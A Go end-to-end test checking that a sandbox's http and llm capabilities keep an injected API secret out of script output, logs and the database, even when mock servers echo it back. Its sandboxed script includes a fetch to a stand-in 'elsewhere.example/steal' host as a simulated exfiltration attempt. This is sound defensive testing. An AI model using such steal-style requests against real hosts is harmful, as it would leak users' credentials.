package main

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"littleboxes/app/store"
	"littleboxes/capabilities"
	_ "littleboxes/capabilities/http"
	_ "littleboxes/capabilities/llm"
	"littleboxes/sandbox"
	"littleboxes/vault"
	"littleboxes/vault/keyring"
	"littleboxes/vault/keyring/keyringtest"
)

// TestSecretNeverLeaves is the full round of the secrets contract: a secret
// set in the real OS keyring is injected by the http and llm capabilities on the Go
// side of a call made from a real isolate, reaches the server on the wire,
// and appears in nothing else: not in what JavaScript receives (even though
// the server echoes the request back), not in the console, not in the logs,
// and not in the bbolt file where the names index and the run's record live.
func TestSecretNeverLeaves(t *testing.T) {
	keyringtest.Require(t)
	ctx := context.Background()
	dir := t.TempDir()
	st, err := store.Open(filepath.Join(dir, "littleboxes.db"), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	red := vault.NewRedactor()
	v := vault.New(keyring.New(store.NewNameSet(st, "secrets")), red)

	raw := make([]byte, 12)
	_, _ = rand.Read(raw)
	secret := "sk-live-" + hex.EncodeToString(raw)
	name := "e2e-" + hex.EncodeToString(raw[:4])
	if err := v.Set(ctx, name, secret); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = v.Delete(context.Background(), name) })

	var wire sync.Map
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		wire.Store("auth", r.Header.Get("Authorization"))
		// A hostile or careless API echoes everything back.
		w.Header().Set("X-Echo-Authorization", r.Header.Get("Authorization"))
		w.Header().Set("X-Echo-B64", base64.StdEncoding.EncodeToString([]byte(r.Header.Get("Authorization"))))
		_ = json.NewEncoder(w).Encode(map[string]any{"headers": r.Header, "url": r.URL.String(), "hex": hex.EncodeToString([]byte(secret))})
	}))
	defer srv.Close()

	var logs bytes.Buffer
	var logMu sync.Mutex
	logf := vault.RedactLogf(red, func(format string, args ...any) {
		logMu.Lock()
		defer logMu.Unlock()
		fmt.Fprintf(&logs, format+"\n", args...)
	})
	props, _ := json.Marshal(map[string]any{"origins": []string{srv.URL}, "auth": map[string]any{"type": "bearer"}, "allow_private_network": true, "methods": []string{"GET", "POST"}})
	api, err := capabilities.New(ctx, "http", props, &capabilities.Host{
		Instance: "api", Secrets: v, SecretRefs: map[string]string{"credential": name}, Logf: logf,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer capabilities.Cleanup(api)

	// An OpenAI-compatible server that puts the key it was sent in its reply.
	llmSrv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		wire.Store("llm-auth", r.Header.Get("Authorization"))
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(map[string]any{"model": "echo", "choices": []any{map[string]any{
			"index": 0, "finish_reason": "stop",
			"message": map[string]any{"role": "assistant", "content": "you sent " + r.Header.Get("Authorization")},
		}}})
	}))
	defer llmSrv.Close()
	llmProps, _ := json.Marshal(map[string]any{"base_url": llmSrv.URL + "/v1", "model": "echo"})
	model, err := capabilities.New(ctx, "llm", llmProps, &capabilities.Host{
		Instance: "model", Secrets: v, SecretRefs: map[string]string{"api_key": name}, Logf: logf,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer capabilities.Cleanup(model)

	mod, err := sandbox.Compile("leaky.ts", `export default { async run(_, env) {
		const said = await env.model.complete("what key did I send?");
		console.log(said.content);
		const r = await env.api.fetch("/echo?x=1", { method: "POST", body: "hello" });
		console.log("got", JSON.stringify(r));
		let err = "";
		try { await env.api.fetch("https://elsewhere.example/steal") } catch (e) { err = String(e.message) }
		console.error(err);
		return { r, err, said, envKeys: Object.keys(env.api) };
	} }`)
	if err != nil {
		t.Fatal(err)
	}
	res, err := sandbox.NewInProcess().Run(ctx, &sandbox.Invocation{Module: mod, Env: map[string]sandbox.Binding{"api": capabilities.Bind(api), "model": capabilities.Bind(model)}})
	if err != nil {
		t.Fatal(err)
	}
	if got, _ := wire.Load("auth"); got != "Bearer "+secret {
		t.Fatalf("the server saw Authorization %q, want the injected bearer credential", got)
	}
	if got, _ := wire.Load("llm-auth"); got != "Bearer "+secret {
		t.Fatalf("the llm server saw Authorization %q, want the injected key", got)
	}
	out, _ := json.Marshal(res)
	logf("run finished: %s", out)
	// Record the run the way the engine does, redacting on the way in.
	if err := st.Update(func(tx store.Tx) error {
		b, err := tx.CreateBucket("runs")
		if err != nil {
			return err
		}
		return b.Put([]byte("run-1"), red.Bytes(out))
	}); err != nil {
		t.Fatal(err)
	}
	if err := st.Close(); err != nil {
		t.Fatal(err)
	}
	file, err := os.ReadFile(filepath.Join(dir, "littleboxes.db"))
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(file, []byte(name)) {
		t.Fatal("the store file lacks the secret's name: the names index is not where this test looks")
	}
	forms := []string{secret, base64.StdEncoding.EncodeToString([]byte(secret)), hex.EncodeToString([]byte(secret)),
		url.QueryEscape(secret), base64.StdEncoding.EncodeToString([]byte("Bearer " + secret))}
	logMu.Lock()
	logText := logs.String()
	logMu.Unlock()
	places := map[string][]byte{"what JavaScript returned and logged": out, "the logs": []byte(logText), "the store file": file}
	for where, data := range places {
		for _, f := range forms {
			if bytes.Contains(data, []byte(f)) {
				t.Errorf("%s contain the secret (form %q)", where, f)
			}
		}
	}
	if !strings.Contains(string(out), "[secret:") {
		t.Errorf("the echoed credential was not replaced by a [secret:…] marker: %s", out)
	}
}
